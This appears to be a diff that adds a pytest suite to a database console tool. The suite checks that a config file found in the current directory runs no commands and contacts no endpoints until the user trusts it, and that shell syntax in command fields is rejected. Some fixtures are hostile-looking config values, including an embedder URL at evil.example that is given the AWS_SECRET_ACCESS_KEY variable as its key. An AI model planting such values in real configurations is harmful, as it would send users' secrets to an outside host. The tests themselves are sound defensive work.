@@ -1,0 +1,136 @@
+"""What lies in the current directory acts for nobody who has not said that it may; commands run without a shell."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from console import config, trust
+from console.errors import ConfigError
+from console.text.parse import command_words
+
+DEEDS = {
+    "password_command": '[targets.a]\ndsn = "host=h"\npassword_command = "touch ran"\n',
+    "production": '[targets.a]\ndsn = "host=h"\nenvironment = "production"\n',
+    "password": '[targets.a]\ndsn = "postgresql://u:secret@h/d"\n',
+    "pooler's password": '[targets.a]\ndsn = "host=h"\npgbouncer = "host=h password=secret"\n',
+    "your own mine": '[targets.mine]\ndsn = "host=elsewhere"\n',
+    "services.s.up": '[services.s]\nschemas = ["s"]\nframework = "ecto"\nup = "touch ran"\n',
+    "services.s.down": '[services.s]\nschemas = ["s"]\nframework = "ecto"\ndown = "touch ran"\n',
+    "embedders.e.command": '[embedders.e]\ncommand = "touch ran"\n',
+    "with the key in $AWS_SECRET_ACCESS_KEY":
+        '[embedders.e]\nurl = "http://evil.example/v1"\nkey_env = "AWS_SECRET_ACCESS_KEY"\n',
+    "alerts.command": '[alerts]\ncommand = "touch ran"\n',
+    "otel.endpoint": '[otel]\nendpoint = "http://evil.example"\n',
+}
+HARMLESS = ('default_target = "a"\nkeys = "vim"\n[targets.a]\ndsn = "host=127.0.0.1 port=1"\n[services.s]\n'
+            'schemas = ["s"]\n[checks.connections]\nwarning = "70%"\n[console]\ntheme = "paper"\n')
+
+
+@pytest.fixture
+def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The current directory, of a person whose own configuration has the target mine."""
+    for name in ("config", "state", "here"):
+        (tmp_path / name).mkdir()
+    (tmp_path / "config" / "dbconsole").mkdir()
+    (tmp_path / "config" / "dbconsole" / "config.toml").write_text('[targets.mine]\ndsn = "host=mine"\n')
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    monkeypatch.delenv("DBCONSOLE_CONFIG", raising=False)
+    monkeypatch.chdir(tmp_path / "here")
+    return tmp_path / "here" / "dbconsole.toml"
+
+
+def dbconsole(*arguments: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "console", *arguments], capture_output=True, text=True, timeout=60,
+                          stdin=subprocess.DEVNULL)
+
+
+@pytest.mark.parametrize("deed", DEEDS)
+def test_a_file_that_lies_here_acts_only_when_it_is_trusted_as_it_is(here: Path, deed: str) -> None:
+    here.write_text(DEEDS[deed])
+    with pytest.raises(trust.Untrusted) as told:
+        config.load()
+    assert deed.removeprefix("pooler's ") in told.value.summary and "config trust" in (told.value.hint or "")
+    assert "secret" not in told.value.summary
+    config.load(here)  # named
+    trust.trust(told.value.path, told.value.content)
+    assert config.load().path == Path("dbconsole.toml")
+    here.write_text(DEEDS[deed] + "# changed\n")
+    with pytest.raises(trust.Untrusted):
+        config.load()
+    assert trust.forget(told.value.path, told.value.content) and not trust.is_trusted(here, told.value.content)
+
+
+def test_every_field_that_acts_is_asked_for(here: Path) -> None:
+    """A setting that comes new is either harmless, and said to be here, or one of the deeds above."""
+    harmless = {"dsn", "environment", "read_only", "signals", "direct_dsn", "pgbouncer", "pool", "machine",
+                "connect_timeout", "statement_timeout", "lock_timeout", "schemas", "description", "depends_on",
+                "migrations", "layout", "framework", "warning", "critical", "enabled", "model", "send_dimensions",
+                "columns", "timeout", "interval", "theme", "refresh", "ascii", "slow_query", "bell", "every", "preset",
+                "changes", "min_size", "max_size", "max_lifetime", "max_idle", "memory_gb", "cores", "name"}
+    acting = {"password_command", "up", "down", "command", "url", "key_env", "endpoint"}
+    kinds = [kind for kind in vars(config).values() if isinstance(kind, type) and kind.__name__.endswith("Config")
+             and kind is not config.Config]
+    assert {name for kind in kinds for name in kind.__struct_fields__} == harmless | acting  # type: ignore[attr-defined]
+
+
+def test_a_harmless_file_is_used_without_a_question(here: Path) -> None:
+    here.write_text(HARMLESS)
+    assert config.load().targets.keys() == {"a"}
+
+
+def test_one_that_everybody_can_write_is_refused_also_when_it_is_named(here: Path) -> None:
+    here.write_text(HARMLESS)
+    here.chmod(0o666)
+    for explicit in (None, here):
+        with pytest.raises(ConfigError, match="everybody can write it"):
+            config.load(explicit)
+
+
+@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give a file away")
+def test_one_that_is_somebody_elses_is_refused_unless_it_is_named(here: Path) -> None:
+    here.write_text(HARMLESS)
+    os.chown(here, 65534, -1)
+    with pytest.raises(ConfigError, match="belongs to another user"):
+        config.load()
+    assert config.load(here).targets.keys() == {"a"}
+
+
+def test_headless_nothing_runs_and_the_status_is_3(here: Path) -> None:
+    here.write_text('default_target = "a"\n' + DEEDS["password_command"].replace("host=h", "host=127.0.0.1 port=1"))
+    for arguments in (("--check",), ("migrate", "status"), ("explain", "SELECT 1")):
+        done = dbconsole(*arguments)
+        assert done.returncode == 3 and "not trusted yet" in done.stderr and not Path("ran").exists()
+    assert dbconsole("config", "trust").returncode == 3 and "--yes" in dbconsole("config", "trust").stderr
+    done = dbconsole("config", "trust", "--yes")
+    assert done.returncode == 0 and "password_command runs touch ran" in done.stderr
+    assert dbconsole("config", "path").stdout == "dbconsole.toml\n"
+    assert dbconsole("--check").returncode == 2 and Path("ran").exists()
+    marks = list((here.parent.parent / "state" / "dbconsole" / "trusted").iterdir())
+    assert [mark.stat().st_mode & 0o777 for mark in marks] == [0o600]
+    assert dbconsole("config", "forget").returncode == 0 and dbconsole("--check").returncode == 3
+
+
+@pytest.mark.parametrize(("line", "words"), [
+    ("vault read -field=password db/prod", ("vault", "read", "-field=password", "db/prod")),
+    ("sh -c 'a | b > c'", ("sh", "-c", "a | b > c")), ("echo '$X'", ("echo", "$X")),
+    ('"/a b/c" d', ("/a b/c", "d")), (r"echo \$5", ("echo", "$5")), ("a # b", ("a", "#", "b"))])
+def test_a_command_is_a_program_with_arguments(line: str, words: tuple[str, ...]) -> None:
+    assert command_words(line) == words
+
+
+@pytest.mark.parametrize("line", ["a | b", "a && b", "a; b", "a > b", "echo $X", "echo `b`", 'echo "$X"', "a\nb", "",
+                                  " ", "echo 'open", "(a)"])
+def test_what_only_a_shell_would_do_is_an_error_of_the_file(line: str, here: Path) -> None:
+    for table in ('[targets.a]\ndsn = "host=h"\npassword_command', "[services.s]\nup", "[services.s]\ndown",
+                  "[alerts]\ncommand", "[embedders.e]\ncommand"):
+        here.write_text(f"{table} = {line!r}\n" if "'" not in line and "\n" not in line
+                        else f'{table} = """{line}"""\n')
+        with pytest.raises(ConfigError) as told:
+            config.load(here)
+        assert "dbconsole.toml" in told.value.summary and table.rpartition("\n")[2] in told.value.summary
